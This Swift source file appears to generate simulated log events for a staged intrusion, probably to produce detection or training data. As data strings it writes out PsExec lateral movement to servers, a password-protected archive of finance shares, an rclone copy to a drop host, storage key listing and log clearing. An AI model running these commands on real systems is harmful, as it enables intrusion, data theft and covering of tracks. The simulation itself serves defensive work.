internal import Chronology
internal import JSON

extension AttackScript {
    /// From the gateway to the servers with the account found in memory, by PsExec and remote desktop.
    mutating func moveLaterally() {
        let tool = #"C:\ProgramData\PsExec64.exe"#
        let targets = [Organisation.fileServer, Organisation.databaseServer, Organisation.domainController]
        for (index, target) in targets.enumerated() {
            let part = 0.52 + 0.04 * Double(index)
            run(
                tool, #"-accepteula \\"# + target.name + " -s cmd.exe", parent: #"C:\Windows\System32\cmd.exe"#,
                on: Organisation.gateway, as: victim.account, sid: victim.sid, at: part, stage: .lateralMovement,
                originalName: "psexec.c")
            add(
                WindowsEvents(time: time(part + 0.001), computer: Organisation.gateway, stage: .lateralMovement)
                    .explicitCredentials(
                        serviceAccount.name, by: victim.account, sid: victim.sid, target: target.fullName, process: tool
                    ))
            arrive(at: target, part + 0.002)
        }
        add(
            WindowsEvents(time: time(0.66), computer: Organisation.databaseServer, stage: .lateralMovement).logon(
                serviceAccount.name, sid: serviceAccount.sid, type: 10, from: Organisation.gateway.address,
                workstation: Organisation.gateway.name, package: "Negotiate", logonID: "0x71aa04"))
    }

    /// What the target of PsExec sees.
    private mutating func arrive(at target: Computer, _ part: Double) {
        let source = Organisation.gateway.address
        let (account, sid) = serviceAccount
        let logonID = "0x5f1c22"
        func events(_ later: Double) -> WindowsEvents {
            WindowsEvents(time: time(part + later), computer: target, stage: .lateralMovement)
        }
        add(
            events(0).logon(
                account, sid: sid, type: 3, from: source, workstation: Organisation.gateway.name, package: "NTLM",
                logonID: logonID))
        add(events(0.0005).specialPrivileges(account, sid: sid, logonID: logonID))
        add(events(0.001).shareAccess("ADMIN$", file: "PSEXESVC.exe", user: account, sid: sid, from: source))
        add(
            events(0.0015).service(
                "PSEXESVC", path: #"%SystemRoot%\PSEXESVC.exe"#, account: "LocalSystem", by: account, sid: sid))
        run(
            #"C:\Windows\System32\cmd.exe"#, "", parent: #"C:\Windows\PSEXESVC.exe"#, on: target, as: "SYSTEM",
            sid: "S-1-5-18", at: part + 0.002, stage: .lateralMovement)
        run(
            #"C:\Windows\System32\net.exe"#, "share", parent: #"C:\Windows\System32\cmd.exe"#, on: target, as: "SYSTEM",
            sid: "S-1-5-18", at: part + 0.005, stage: .lateralMovement)
    }

    /// The shares packed and copied out, the keys of a storage account, and the log cleared.
    mutating func exfiltrate() {
        let server = Organisation.fileServer
        let (account, sid) = serviceAccount
        let shell = #"C:\Windows\System32\cmd.exe"#
        let copier = #"C:\ProgramData\rclone.exe"#
        run(
            #"C:\Program Files\7-Zip\7z.exe"#,
            #"a -pHarb0r -v2g D:\Backup\arc.7z D:\Shares\Chartering D:\Shares\Finance"#,
            parent: shell, on: server, as: account, sid: sid, at: 0.74, stage: .exfiltration)
        run(
            copier, #"copy D:\Backup drift:nwh --config C:\ProgramData\r.conf --transfers 16 --no-check-certificate"#,
            parent: shell, on: server, as: account, sid: sid, at: 0.77, stage: .exfiltration)
        let network = WindowsEvents(time: time(0.771), computer: server, stage: .exfiltration)
        add(network.nameQuery(AttackScript.dropName, answer: AttackScript.dropAddress, by: copier, user: account))
        add(
            WindowsEvents(time: time(0.772), computer: server, stage: .exfiltration).connection(
                from: copier, user: account, to: AttackScript.dropAddress, port: 443, name: AttackScript.dropName))
        for index in 0..<8 {
            let flow = NetworkEvents.Flow(
                source: server.address, destination: AttackScript.dropAddress, port: 443,
                sent: random.number(1_500_000_000..<2_100_000_000), received: random.number(3_000_000..<9_000_000),
                app: "ssl", host: AttackScript.dropName)
            add(
                NetworkEvents(time: time(0.79 + 0.02 * Double(index)), stage: .exfiltration).flow(
                    flow, sourcePort: 51_600 + index))
        }
        add(
            CloudEvents(time: time(0.85), stage: .exfiltration).operation(
                "Microsoft.Storage/storageAccounts/listKeys/action",
                on: "Microsoft.Storage/storageAccounts/nwharchive", group: "harbor-prod", by: victim,
                from: AttackScript.sprayAddresses[1], id: random.guid()))
        add(
            WindowsEvents(time: time(0.97), computer: server, stage: .exfiltration).logCleared(by: account, sid: sid))
    }
}
